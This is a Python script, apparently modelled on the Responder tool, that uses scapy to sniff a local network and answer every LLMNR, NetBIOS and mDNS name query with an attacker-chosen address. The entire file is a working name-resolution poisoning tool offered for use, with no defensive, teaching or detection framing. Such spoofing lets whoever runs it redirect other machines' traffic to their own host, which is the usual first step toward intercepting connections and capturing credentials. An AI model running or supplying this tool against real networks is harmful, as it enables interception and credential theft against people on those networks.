"""Answers LLMNR, NetBIOS and mDNS questions for any name with one address, as Responder's documentation describes.

Usage: name-poisoner.py INTERFACE ADDRESS PROTOCOL…   (llmnr, nbns, mdns)
"""

import sys

from scapy.all import (
    DNS, DNSRR, IP, UDP, Ether, NBNSHeader, NBNSQueryRequest, NBNSQueryResponse, NBNS_ADD_ENTRY,
    conf, get_if_hwaddr, sendp, sniff,
)
from scapy.layers.llmnr import LLMNRQuery, LLMNRResponse

INTERFACE, ADDRESS, PROTOCOLS = sys.argv[1], sys.argv[2], sys.argv[3:]
MAC = get_if_hwaddr(INTERFACE)
MDNS_GROUP = Ether(src=MAC, dst="01:00:5e:00:00:fb") / IP(src=ADDRESS, dst="224.0.0.251", ttl=255)
# A layer-2 socket of its own: opening one for each answer takes longer than an asker waits.
SOCKET = conf.L2socket(iface=INTERFACE)


def back_to(frame, port):
    ends = Ether(src=MAC, dst=frame[Ether].src) / IP(src=ADDRESS, dst=frame[IP].src)
    return ends / UDP(sport=port, dport=frame[UDP].sport)


def llmnr(frame):
    name = frame[LLMNRQuery].qd.qname
    record = DNSRR(rrname=name, type="A", ttl=30, rdata=ADDRESS)
    return back_to(frame, 5355) / LLMNRResponse(id=frame[LLMNRQuery].id, qr=1, qd=frame[LLMNRQuery].qd, an=record)


def nbns(frame):
    name = frame[NBNSQueryRequest].QUESTION_NAME
    header = NBNSHeader(NAME_TRN_ID=frame[NBNSHeader].NAME_TRN_ID, RESPONSE=1, NM_FLAGS=0x58, QDCOUNT=0, ANCOUNT=1)
    suffix = frame[NBNSQueryRequest].SUFFIX
    entry = NBNS_ADD_ENTRY(NB_ADDRESS=ADDRESS)
    return back_to(frame, 137) / header / NBNSQueryResponse(RR_NAME=name, SUFFIX=suffix, TTL=165, ADDR_ENTRY=[entry])


def mdns(frame):
    record = DNSRR(rrname=frame[DNS].qd.qname, type="A", ttl=120, rdata=ADDRESS, rclass=0x8001)
    return MDNS_GROUP / UDP(sport=5353, dport=5353) / DNS(qr=1, aa=1, qd=None, an=record)


def answer(frame):
    if frame[Ether].src == MAC:
        return
    if "llmnr" in PROTOCOLS and LLMNRQuery in frame and frame[LLMNRQuery].qr == 0:
        SOCKET.send(llmnr(frame))
    elif "nbns" in PROTOCOLS and NBNSQueryRequest in frame:
        SOCKET.send(nbns(frame))
    elif "mdns" in PROTOCOLS and frame[UDP].dport == 5353 and DNS in frame and frame[DNS].qr == 0:
        SOCKET.send(mdns(frame))


sniff(
    iface=INTERFACE,
    filter="udp and (dst port 5355 or dst port 137 or dst port 5353)",
    prn=answer,
    store=False,
    started_callback=lambda: print("listening", flush=True),
)
